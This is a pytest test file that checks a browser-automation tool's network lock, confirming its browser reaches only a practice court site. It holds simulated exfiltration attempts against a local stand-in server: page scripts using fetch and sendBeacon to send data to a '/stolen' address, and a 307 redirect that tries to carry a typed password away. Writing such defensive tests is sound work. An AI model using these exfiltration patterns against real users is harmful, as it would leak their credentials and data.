"""The browser of a walk reaches the practice court and nothing else, whatever a page or a redirect asks for."""

import http.server
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext
from playwright.sync_api import Error as PlaywrightError

from automation.config import Config
from automation.session import network_lock, stage
from automation.session.browser import Found
from automation.site.client import Site, SiteError
from automation.support.errors import first_words


@dataclass
class Stranger:
    """A server that is no practice court, and what it was asked."""

    port: int = 0
    heard: list[str] = field(default_factory=list)


@contextmanager
def serving(answers: type[http.server.BaseHTTPRequestHandler]) -> Iterator[int]:
    """Serve on a free port of this computer, and give the port."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), answers) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
        thread.start()
        yield server.server_port
        server.shutdown()
        thread.join()


@pytest.fixture
def stranger() -> Iterator[Stranger]:
    """A server on this very computer that writes down every request."""
    it = Stranger()

    class Listen(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            it.heard.append(f"{self.command} {self.path} {self.rfile.read(length).decode()}")
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"<p>caught</p>")

        do_POST = do_HEAD = do_OPTIONS = do_CONNECT = do_GET

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with serving(Listen) as it.port:
        yield it


@pytest.fixture
def crooked_court(stranger: Stranger) -> Iterator[str]:
    """A court whose every answer is a redirect that repeats the request (307) to the stranger's address."""

    class Redirect(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path == "/":
                body = b'<form method="post" action="/in"><input name="p"><button>Go</button></form>'
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(body)
                return
            self.send_response(307)
            self.send_header("Location", f"http://127.0.0.1:{stranger.port}{self.path}")
            self.end_headers()

        def do_POST(self) -> None:
            self.rfile.read(int(self.headers["Content-Length"]))
            self.do_GET()

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with serving(Redirect) as port:
        yield f"http://127.0.0.1:{port}"


def test_a_page_cannot_go_to_another_address(context: BrowserContext, stranger: Stranger) -> None:
    """Not even to another port of this computer."""
    with pytest.raises(PlaywrightError, match="ERR_"):
        context.new_page().goto(f"http://127.0.0.1:{stranger.port}/")
    assert stranger.heard == []


@pytest.mark.parametrize("host", ["ecf.idd.uscourts.gov", "pacer.login.uscourts.gov", "example.com"])
def test_a_page_cannot_go_to_another_host(context: BrowserContext, host: str) -> None:
    """A real court's name leads nowhere."""
    with pytest.raises(PlaywrightError, match="ERR_"):
        context.new_page().goto(f"https://{host}/")


def test_a_script_cannot_send_anything_elsewhere(context: BrowserContext, site: Site, stranger: Stranger) -> None:
    """Neither fetch nor a beacon gets out, even where the page's own policy is not in the way."""
    page = context.new_page()
    page.goto(f"{site.origin}/static/court.css")  # a document without the pages' own content policy
    address = f"http://127.0.0.1:{stranger.port}/stolen"
    said = page.evaluate("address => fetch(address, {mode: 'no-cors'}).then(() => 'sent', () => 'not sent')", address)
    page.evaluate("address => navigator.sendBeacon(address, 'stolen')", address)
    assert said == "not sent"
    assert stranger.heard == []


def test_a_redirect_cannot_carry_a_password_away(
    browser: Browser, site: Site, crooked_court: str, stranger: Stranger
) -> None:
    """A 307 repeats a form with what was typed: the browser does not follow it out of the site."""
    with stage.open_context(browser, replace(site, origin=crooked_court), (800, 600), 5) as context:
        page = context.new_page()
        page.goto(crooked_court)
        page.get_by_role("textbox").fill("Practice-pacer-1")
        with page.expect_event("requestfailed") as failed:
            page.get_by_role("button").click()
    assert failed.value.failure == "net::ERR_PROXY_CONNECTION_FAILED"
    assert stranger.heard == []


def test_a_context_that_is_not_ours_is_locked_too(browser: Browser, site: Site, stranger: Stranger) -> None:
    """The browser is locked as it starts: a context that somebody opens in it reaches the site and nothing else."""
    with browser.new_context() as context:
        page = context.new_page()
        page.goto(f"{site.origin}/static/court.css")
        for host in ("127.0.0.1", "localhost", "[::1]"):
            with pytest.raises(PlaywrightError, match="ERR_PROXY_CONNECTION_FAILED"):
                page.goto(f"http://{host}:{stranger.port}/")
    assert stranger.heard == []


def test_no_wish_of_a_suite_opens_the_lock(browser: Browser, site: Site, stranger: Stranger) -> None:
    """What else is asked of a context never replaces its proxy."""
    options = {"proxy": {"server": f"http://127.0.0.1:{stranger.port}"}}
    with stage.open_context(browser, site, (800, 600), 5, options=options) as context:
        answer = context.new_page().goto(f"{site.origin}/static/court.css")
        assert answer
        assert answer.status == 200
    assert stranger.heard == []


class Launched:
    """A stand-in for Playwright: what it was told, and a browser that is only closed."""

    def __init__(self) -> None:
        self.told: list[dict[str, Any]] = []
        self.chromium = self.firefox = self

    def launch(self, **told: Any) -> "Launched":
        """Launch."""
        self.told.append(told)
        return self

    def connect(self, _address: str, **told: Any) -> "Launched":
        """Connect."""
        return self.launch(**told)

    def close(self) -> None:
        """Close."""


@pytest.mark.parametrize("option", ["proxy", "args", "env", "executable_path"])
def test_no_option_of_a_launch_opens_the_lock(site: Site, option: str) -> None:
    """What locks a browser as it starts is given once: a second word on it is an error and not a choice."""
    launched: Any = Launched()
    found = Found("chromium", None, "a browser")
    with (
        pytest.raises(TypeError, match="multiple values"),
        stage.open_browser(launched, found, site, headed=False, options={option: None}),
    ):
        pass
    assert launched.told == []


def test_a_browser_that_goes_past_its_proxy_is_not_used(site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where a Firefox or a WebKit does not heed our proxy, nothing is walked in it."""
    monkeypatch.setattr(network_lock, "goes_through", lambda *_: False)
    launched: Any = Launched()
    with (
        pytest.raises(stage.BrowserFailed, match="Firefox goes past its proxy, and cannot be kept"),
        stage.open_browser(launched, Found("firefox", None, "Firefox"), site, headed=False),
    ):
        pytest.fail("it was given")


def test_a_browser_elsewhere_is_looked_at_before_it_is_used(site: Site) -> None:
    """One that cannot be kept in is not connected to, and one that finds another court than we is not used."""
    launched: Any = Launched()
    firefox = Config(browser="firefox", connect="ws://127.0.0.1:2")
    with (
        pytest.raises(SiteError, match="Firefox is kept in from its start only"),
        stage.wanted_browser(launched, firefox, site, print),
    ):
        pytest.fail("it was given")
    assert launched.told == []

    def new_context(**_: object) -> None:
        raise PlaywrightError("there is no such thing here")

    launched.new_context = new_context
    with (
        pytest.raises(stage.BrowserFailed, match=r"is no practice court for the browser at ws://127\.0\.0\.1:2"),
        stage.wanted_browser(launched, Config(connect="ws://127.0.0.1:2"), site, print),
    ):
        pytest.fail("it was given")


def test_a_browser_elsewhere_is_locked_before_it_asks(site: Site) -> None:
    """Even the handshake goes through a context that reaches the site and nothing else."""
    told: list[object] = []

    def new_context(**options: object) -> None:
        told.append(options)
        raise PlaywrightError("enough")

    elsewhere: Any = SimpleNamespace(new_context=new_context)
    with pytest.raises(stage.BrowserFailed):
        stage.check_reaches(elsewhere, site, "ws://127.0.0.1:2")
    assert told == [{"proxy": network_lock.proxy(site)}]


@pytest.mark.parametrize(("host", "domain"), [("127.0.0.1", "127.0.0.1"), ("::1", "[::1]")])
def test_the_grant_is_for_the_court_alone(host: str, domain: str) -> None:
    """What lets a browser in stands in the cookies of that host, where no page's script reads it."""
    guarded: Any = SimpleNamespace(host=host, place="x:1", access_cookies=lambda: {"moot_access_1": "grant"})
    cookies = stage.context_lock("firefox", guarded)["storage_state"]["cookies"]
    assert cookies == [
        {"name": "moot_access_1", "value": "grant", "domain": domain, "path": "/", "httpOnly": True},
    ]


def test_a_seat_that_somebody_else_enters_first(context: BrowserContext, site: Site) -> None:
    """Who presses the button a moment too late is not in the seat, and is not walked on as if."""
    gone = "<!doctype html><title>[Practice] Gone</title>"
    context.route(
        "**/practice/enter/*",
        lambda route: (
            route.fulfill(status=410, content_type="text/html", body=gone)
            if route.request.method == "POST"
            else route.continue_()
        ),
    )
    page = context.new_page()
    page.set_default_navigation_timeout(1000)
    with pytest.raises(PlaywrightError, match="Timeout"):
        stage.enter(page, site.new_seat())


def test_a_request_outside_pages_goes_nowhere(context: BrowserContext, stranger: Stranger) -> None:
    """Playwright's own requests do not pass the browser; they end at the proxy that does not exist."""
    with pytest.raises(PlaywrightError):
        context.request.get(f"http://127.0.0.1:{stranger.port}/")
    assert stranger.heard == []


@pytest.mark.skipif(sys.platform == "win32", reason="the stand-in is a shell script")
def test_a_driver_that_lacks_a_library_says_which(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A Debian with nothing but Python lacks one that Playwright's Node.js wants: no bug of ours, and easily mended."""
    complaint = "node: error while loading shared libraries: libatomic.so.1: cannot open shared object file"
    node = tmp_path / "node"
    node.write_text(f"#!/bin/sh\necho '{complaint}' >&2\nexit 127\n")
    node.chmod(0o755)

    def closed() -> None:
        raise Exception("Connection closed while reading from the driver")

    monkeypatch.setattr(stage, "sync_playwright", lambda: SimpleNamespace(start=closed))
    monkeypatch.setattr(stage, "compute_driver_executable", lambda: (str(node), "cli.js"))
    with pytest.raises(stage.BrowserFailed) as failed, stage.start_playwright():
        pass
    assert str(failed.value) == (
        f"Playwright does not start: {complaint}\n"
        "On Debian or Ubuntu that is mended by:\n    sudo apt-get install libatomic1"
    )


def test_a_browsers_own_log_is_not_told() -> None:
    """It names programs and folders of this machine."""
    assert (
        first_words(PlaywrightError("Target closed. Browser logs: <launching> /somewhere/chromium")) == "Target closed."
    )
